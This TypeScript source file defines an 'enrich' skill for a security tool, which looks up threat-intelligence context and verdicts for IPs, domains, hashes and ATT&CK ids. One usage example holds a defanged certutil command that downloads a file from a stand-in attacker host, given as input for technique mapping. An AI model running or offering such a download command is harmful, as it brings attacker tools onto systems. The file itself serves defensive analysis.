import { setImmediate } from 'node:timers/promises';
import type { NextCommand } from '../../casebook/finding.js';
import type { Answer, Observable } from '../../enrichment/answer.js';
import { contextOf } from '../../enrichment/context/context.js';
import { keyOf } from '../../enrichment/source.js';
import { verdictOf } from '../../enrichment/verdict.js';
import { UserError } from '../../errors.js';
import { defineSkill } from '../kit/define.js';
import { count, finding } from '../kit/finding.js';
import { param } from '../kit/params.js';
import type { SkillContext, SourceValues } from '../kit/skill.js';
import { askSources, type AskPlan } from './asking.js';
import { byInterest, isOpinion, type Context, type Enriched } from './enriched.js';
import { ownMarks, type OwnMarks } from './own-lists.js';
import { readSubjects, type Subject } from './subjects.js';
import { tableOf } from './table.js';
import { entitiesOf, explanation, factsOf, headlineOf, severityOf, soFar } from './view.js';

/** Lookups between two looks at other work. */
const BURST = 500;
const ADDRESS_COLUMN = /^(?:IPAddress|IpAddress|ClientIP|CallerIpAddress|SourceIP|DestinationIP|RemoteIP|src_ip|dst_ip)$/;
const PIVOTS = 2;

const isKnown = ({ type }: Enriched): boolean => type !== 'unknown';

/** What is known of each without asking anyone. */
async function lookUp(subjects: readonly Subject[], marks: OwnMarks, ctx: SkillContext): Promise<Enriched[]> {
  const known: Enriched[] = [];
  for (const [at, subject] of subjects.entries()) {
    known.push(await ofSubject(subject, marks, ctx));
    if (at % BURST === BURST - 1) await setImmediate();
  }
  return known;
}

async function ofSubject(subject: Subject, marks: OwnMarks, ctx: SkillContext): Promise<Enriched> {
  const { observable, value, programs = [] } = subject;
  const mark = marks.markOf(value);
  const local = (provider: string, details: string): Context => ({ provider, status: 'found', details: details.slice(0, 500), checkedAt: ctx.now, fromCache: false });
  const context = [
    ...(mark === undefined ? [] : [local('own-lists', mark)]), ...(programs.length === 0 ? [] : [local('living-off-the-land', programs.join('; '))]),
    ...(observable === undefined ? [] : contextOf(observable, { ownDomains: ctx.enrichment.own.domains, now: ctx.now })),
  ];
  const isIp = observable?.type === 'ipv4' || observable?.type === 'ipv6';
  return { ...subject, context, ...(isIp ? { ip: await ctx.enrichment.lookupIp(observable.value, ctx.signal) } : {}) };
}

/** Context has a voice where it has an opinion: a domain that looks like one's own is suspicious. */
function judge(known: readonly Enriched[], answers: readonly Answer[], now: string): Enriched[] {
  const byObservable = new Map<string, Answer[]>();
  for (const answer of answers) {
    const key = keyOf(answer.observable);
    const own = byObservable.get(key);
    if (own === undefined) byObservable.set(key, [answer]);
    else own.push(answer);
  }
  return known.map((one) => {
    const { observable, context } = one;
    if (observable === undefined) return one;
    const opinions = context.flatMap((said) => (said.opinion === undefined ? [] : [{ ...said, observable }]));
    return { ...one, verdict: verdictOf(observable, [...opinions, ...byObservable.get(keyOf(observable)) ?? []], now) };
  });
}

function nothingFound(source: SourceValues): UserError {
  const first = source.values[0]?.text ?? '';
  return new UserError({
    code: 'input.invalid',
    message: source.column === undefined ? `“${first.slice(0, 80)}” is nothing that can be enriched.` : `${source.label} holds no indicator, but values such as “${first.slice(0, 80)}”.`,
    why: 'Looked up are IP addresses, domains, URLs, e-mail addresses, file hashes, CVE and ATT&CK ids, also defanged or inside of a text; accounts and hosts by their column, or as CONTOSO\\ana.',
    next: 'enrich 8.8.8.8, or a column: enrich $logons.IPAddress',
  });
}

/** Where else the address shows in the evidence. */
async function pivots(known: readonly Enriched[], ctx: SkillContext): Promise<NextCommand[]> {
  const ip = known.find((one) => one.ip?.class === 'public') ?? known.find((one) => one.ip !== undefined);
  const tables = (await ctx.providers[0]?.schemas()) ?? [];
  if (ip === undefined) return [];
  return tables.flatMap(({ name, columns }) => {
    const column = columns.find((one) => ADDRESS_COLUMN.test(one.name) && one.type === 'string');
    // `ip.value` is a parsed address, so it can stand in a literal as it is
    return column === undefined ? [] : [{ label: `${ip.value} in ${name}`, say: `query ${name} | where ${column.name} == "${ip.value}"` }];
  }).slice(0, PIVOTS);
}

/** Asks for the reasoning on one indicator whose text needs no quotes. */
const explain = (known: readonly Enriched[], explained: boolean): NextCommand[] => {
  const [worst] = known;
  return explained || worst?.verdict === undefined || !isOpinion(worst.verdict.outcome) || !/^[\w.:@-]{1,100}$/.test(worst.value) ? []
    : [{ label: `Why ${worst.verdict.outcome}?`, say: `enrich ${worst.value} explain=yes` }];
};

function provenance(known: readonly Enriched[], names: readonly string[]): string {
  const data = [...new Set(known.flatMap(({ ip }) => (ip === undefined ? [] : [[ip.source, ip.sourceDate].filter((part) => part !== undefined).join(', as of ')])))];
  return [...data, ...(names.length === 0 ? [] : [`asked: ${names.slice(0, 30).join(', ')}`]), ...(data.length + names.length === 0 ? ['what is built in'] : [])].join('; ');
}

export default defineSkill({
  name: 'enrich',
  aliases: ['lookup'],
  summary: 'What is known of indicators: threat intelligence with one verdict, country, network, likeness',
  params: {
    input: param.source('what to look up: 8.8.8.8, $logons.IPAddress, or the indicators of #4'),
    providers: param.textOption('names of the sources to ask, with commas between them'),
    most: param.int('how many indicators may be sent to other parties', { min: 0, max: 1_000, default: 100 }),
    explain: param.choice(['no', 'yes'], 'whether to show the reasoning and the rule', 'no'),
  },
  effects: 'leaves-network',
  limits: { ms: 90_000, rows: 100_000, bytes: 20_000_000 },
  version: '2',
  recognises: [
    { kind: 'value', pattern: /^\s*\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?\s*$|^\s*\[?[0-9a-f]{0,4}:[0-9a-f:]+\]?\s*$|^\s*(?:[0-9a-f]{32}|[0-9a-f]{40}|[0-9a-f]{64})\s*$|^\s*h(?:tt|xx)ps?:\/\//i },
    { kind: 'column', name: /ip$|ip_?addr|address$|domain|url$|sha256|sha1|md5|hash$/i, type: 'string' },
  ],
  examples: [
    { say: 'enrich 8.8.8.8', gives: { headline: '8.8.8.8: Google LLC', facts: { Class: 'public', Country: 'United States (US)', Network: 'AS15169 Google LLC' } }, why: 'country and network of a public address' },
    { say: 'enrich 203.0.113[.]9', gives: { headline: '203.0.113.9: documentation', facts: { Block: 'TEST-NET-3 (RFC 5737)' } }, why: 'a defanged address of a block for examples: never anyone\'s' },
    {
      say: 'enrich $t.Ip', after: ['query datatable(Ip: string)["10.1.2.3", "8.8.8.8", "10.1.2.3"] as $t'],
      gives: { headline: '2 addresses in $t.Ip: 1 public, 1 private', rows: [['ipv4', '10.1.2.3', 'IANA registries', 'not public']] }, why: 'a column: each address once, the most frequent first',
    },
    { say: 'enrich T1059.001', gives: { headline: 'T1059.001: Command and Scripting Interpreter: PowerShell (Execution)' }, why: 'an ATT&CK technique by its id' },
    {
      say: 'enrich certutil -urlcache -f hxxp://cdn.evil[.]example/a.txt a.exe', why: 'a command line: the programs that attackers use, and the indicators in it',
      gives: { facts: { Programs: 'certutil -urlcache -f hxxp://cdn.evil[.]example/a.txt a.exe: certutil.exe: T1105 Ingress Tool Transfer, T1140 Deobfuscate/Decode Files or Information, T1027.013 Obfuscated Files or Information: Encrypted/Encoded File, T1564.004 Hide Artifacts: NTFS File Attributes' } },
    },
    {
      say: 'enrich #1 most=0 explain=yes', after: ['query datatable(Type: string, Value: string, Count: long)["ipv4", "10.1.2.3", 2, "md5", "d41d8cd98f00b204e9800998ecf8427e", 5]'],
      gives: { headline: '2 indicators in #1: 1 benign, 1 not asked', rows: [['md5', 'd41d8cd98f00b204e9800998ecf8427e', 'hash-form', 'found', 'info']] }, why: 'a table of indicators; nothing is sent to others, and the rule is shown',
    },
    { say: 'enrich 8.8.8.8 providers=virustotl', gives: { error: 'param.invalid' }, why: 'only known sources can be asked' },
    { say: 'enrich nothing to see here', gives: { error: 'input.invalid' }, why: 'what can\'t be looked up is said, with what can' },
  ],
  async run({ input, providers, most, explain: explaining }, ctx) {
    const { source, subjects } = await readSubjects(input, ctx);
    if (source.values.length === 0) throw new UserError({ code: 'table.empty', message: `${source.label} has no values to look up.`, next: 'enrich 8.8.8.8' });
    const marks = await ownMarks(ctx.enrichment.own.lists, ctx);
    const looked = await lookUp(subjects, marks, ctx);
    const all = looked.map((one): Enriched => (one.type === 'unknown' && one.context.length > 0 ? { ...one, type: 'name' } : one));
    if (all.every(({ type }) => type === 'unknown')) throw nothingFound(source);
    const isPrivate = new Set(all.flatMap(({ observable, ip }) => (observable !== undefined && ip !== undefined && ip.class !== 'public' ? [keyOf(observable)] : [])));
    const observables = all.flatMap(({ observable }): Observable[] => (observable === undefined ? [] : [observable]));
    const judgedBy = (answers: readonly Answer[]): Enriched[] => judge(all, answers, ctx.now).sort(byInterest);
    const plan: AskPlan = {
      providers, most, stays: (observable) => isPrivate.has(keyOf(observable)),
      soFar: (answers, waiting) => soFar(judgedBy(answers).filter(isKnown), source, waiting),
    };
    const asked = await askSources(observables, plan, ctx);
    const judged = judgedBy(asked.answers);
    const known = judged.filter(isKnown);
    const table = tableOf(judged, ctx.now, ctx.limits.rows);
    return finding({
      headline: headlineOf(known, source),
      severity: severityOf(known),
      facts: factsOf(known, source),
      table, lead: ['Value', 'Verdict', 'Details', 'Provider'], entities: entitiesOf(known),
      ...(explaining === 'yes' ? { tree: explanation(known) } : {}),
      next: [...await pivots(known, ctx), ...explain(known, explaining === 'yes')],
      notes: [
        ...(source.scanned < source.total ? [`The first ${source.scanned.toLocaleString('en')} rows of ${source.total.toLocaleString('en')} were read.`] : []),
        ...(known.length < judged.length ? [`Not looked up, since they hold no indicator: ${count(judged.length - known.length, 'distinct value')}.`] : []),
        ...(table.truncated ? [`The table has the first ${ctx.limits.rows.toLocaleString('en')} of ${table.rowCount.toLocaleString('en')} rows.`] : []),
        ...marks.notes, ...asked.notes,
        ...(known.some(({ ip }) => ip !== undefined) ? ['Country and network come from registries and routing tables: where an address is registered, not where a person sits.'] : []),
      ],
      provenance: provenance(known, asked.names),
    });
  },
});
